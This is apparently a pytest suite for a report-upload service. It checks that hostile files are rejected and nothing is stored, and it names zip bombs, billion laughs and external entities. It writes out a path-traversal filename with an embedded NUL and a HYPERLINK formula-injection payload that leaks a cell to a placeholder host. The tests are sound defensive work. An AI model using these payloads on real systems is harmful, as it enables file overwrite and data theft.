"""Hostile input: a 4xx problem+json with a stable code, nothing stored, and the service still
answers /healthz straight after."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import openpyxl
import pytest
from conftest import SEEDS, seed_report_json
from fixtures.documents import docx_2021, pdf_2021, pdf_encrypted
from hostile_files import (
    BILLION_LAUGHS,
    EXTERNAL_ENTITY,
    docx_with,
    docx_zip_bomb,
    json_million_figures,
    json_nested,
    pdf_decompression_bomb,
    pdf_page_tree_loop,
    zip_of,
)
from sqlalchemy import text

from app.config import get_settings

SEED = "002_3de73757d3cdff2d"


def _stored(session) -> tuple[int, int, int, int]:
    files = sum(1 for p in get_settings().file_store.rglob("*") if p.is_file())
    counts = [
        session.execute(text(f"SELECT count(*) FROM {t}")).scalar_one()
        for t in ("report", "source_document", "figure")
    ]
    return (*counts, files)


def _refused(client, session, response, status: int, codes: set[str]) -> None:
    assert response.status_code == status, response.text[:300]
    assert response.headers["content-type"].startswith("application/problem+json")
    body = response.json()
    assert body["code"] in codes, body
    assert any("\u4e00" <= ch <= "\u9fff" for ch in body["detail"])
    assert client.get("/healthz").json() == {"status": "ok"}


def _upload(client, name: str, data: bytes, media_type: str = "application/octet-stream"):
    return client.post("/api/v1/reports", files={"file": (name, data, media_type)})


FILES = {
    "empty file": ("report.pdf", lambda: b"", 422, {"empty_file"}),
    "one byte": ("report.txt", lambda: b"x", 422, {"not_a_report"}),
    "pdf cut in half": ("report.pdf", lambda: pdf_2021()[: len(pdf_2021()) // 2], 422, {"unreadable_file"}),
    "encrypted pdf": ("report.pdf", pdf_encrypted, 422, {"pdf_encrypted"}),
    "pdf page tree loop": ("report.pdf", pdf_page_tree_loop, 422, {"unreadable_file"}),
    "pdf decompression bomb": (
        "report.pdf",
        pdf_decompression_bomb,
        422,
        {"no_text_layer", "file_too_complex", "extraction_timeout"},
    ),
    "pdf that is a zip": ("report.pdf", lambda: zip_of({"a.txt": b"hello"}), 415, {"unsupported_type"}),
    "docx zip bomb": ("report.docx", docx_zip_bomb, 413, {"file_too_large", "too_large"}),
    "docx billion laughs": ("report.docx", lambda: docx_with(BILLION_LAUGHS), 422, {"unreadable_file"}),
    "docx external entity": ("report.docx", lambda: docx_with(EXTERNAL_ENTITY), 422, {"unreadable_file"}),
    "invalid utf-8": (
        "report.txt",
        lambda: b"\xfa\xfb" + bytes(range(128, 256)) * 40,
        422,
        {"unreadable_file"},
    ),
    "unknown type": ("report.xyz", lambda: b"\x00\x01\x02\x03" * 100, 415, {"unsupported_type"}),
    "json nested 10000 deep": ("report.json", lambda: json_nested(10_000), 422, {"json_too_deep"}),
}


@pytest.mark.parametrize(
    "case", [pytest.param(c, marks=pytest.mark.slow) if c == "pdf decompression bomb" else c for c in FILES]
)
def test_hostile_file(client, session, case):
    name, make, status, codes = FILES[case]
    data = make()
    before = _stored(session)
    _refused(client, session, _upload(client, name, data), status, codes)
    assert _stored(session) == before


def test_html_of_50_mb(client, session):
    before = _stored(session)
    page = b"<html><body>" + b"<p>\xe5\xb9\xb4\xe6\x8a\xa5</p>" * (50 * 1024 * 1024 // 14) + b"</body></html>"
    _refused(client, session, _upload(client, "report.html", page, "text/html"), 413, {"too_large"})
    assert _stored(session) == before


def test_json_body_nested_10000_deep_and_a_million_figures(client, session):
    before = _stored(session)
    json_type = {"content-type": "application/json"}
    deep = client.post("/api/v1/reports", content=json_nested(10_000), headers=json_type)
    _refused(client, session, deep, 422, {"json_too_deep"})
    huge = client.post("/api/v1/reports", content=json_million_figures(), headers=json_type)
    _refused(client, session, huge, 413, {"too_large"})
    as_file = _upload(client, "figures.json", json_million_figures(), "application/json")
    assert 400 <= as_file.status_code < 500 and as_file.json()["code"] in {"too_large", "invalid_report"}
    assert _stored(session) == before


def test_duplicate_upload_returns_the_stored_report(client, session):
    data = (SEEDS / f"{SEED}.txt").read_bytes()
    first = _upload(client, "report.txt", data, "text/plain")
    assert first.status_code == 201
    after_first = _stored(session)
    second = _upload(client, "again.txt", data, "text/plain")
    assert second.status_code == 200
    assert second.json()["id"] == first.json()["id"]
    assert _stored(session) == after_first
    docx = docx_2021()
    assert _upload(client, "a.docx", docx).status_code == 201
    assert _upload(client, "a.docx", docx).status_code == 200


def test_filename_with_dot_dot_and_nul(client, session):
    report = seed_report_json(SEED)
    report["organ"] = "文件名测试局"
    data = json.dumps(report, ensure_ascii=False).encode()
    # Written by hand: an HTTP client would escape the NUL; a hostile one does not.
    body = (
        b'--b\r\nContent-Disposition: form-data; name="file"; filename="../../etc/passwd\x00.json"\r\n'
        b"Content-Type: application/json\r\n\r\n" + data + b"\r\n--b--\r\n"
    )
    response = client.post(
        "/api/v1/reports", content=body, headers={"content-type": "multipart/form-data; boundary=b"}
    )
    assert response.status_code == 201, response.text
    assert response.json()["source"]["filename"] == "passwd.json"
    stored = [p for p in get_settings().file_store.rglob("*") if p.is_file()]
    assert all(p.resolve().is_relative_to(get_settings().file_store.resolve()) for p in stored)
    assert not any("passwd" in p.name for p in stored)


def test_a_body_named_like_a_formula_is_text_in_every_export(client):
    """The body's name reaches a supervisor's spreadsheet through the coverage export."""
    organ = '=HYPERLINK("http://example.invalid/?"&A1,"第十师北屯市")'
    report = seed_report_json(SEED) | {"organ": organ, "year": 2024, "region_code": "659005000000"}
    assert client.post("/api/v1/reports", json=report).status_code == 201
    params = {"region": "659005", "year": 2024, "tree": "xpcc"}

    exported = client.get("/api/v1/coverage", params=params | {"format": "csv"}).content.decode("utf-8-sig")
    names = [row[1] for row in csv.reader(io.StringIO(exported))]
    assert names[:3] == ["机关", "organ", "'" + organ]  # the header, the codes, the body

    exported = client.get("/api/v1/coverage", params=params | {"format": "xlsx"}).content
    with zipfile.ZipFile(io.BytesIO(exported)) as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()  # no formula anywhere
    sheet = openpyxl.load_workbook(io.BytesIO(exported)).active
    assert sheet.cell(3, 2).value == organ and sheet.cell(3, 2).data_type == "s"
    assert client.get("/healthz").json() == {"status": "ok"}
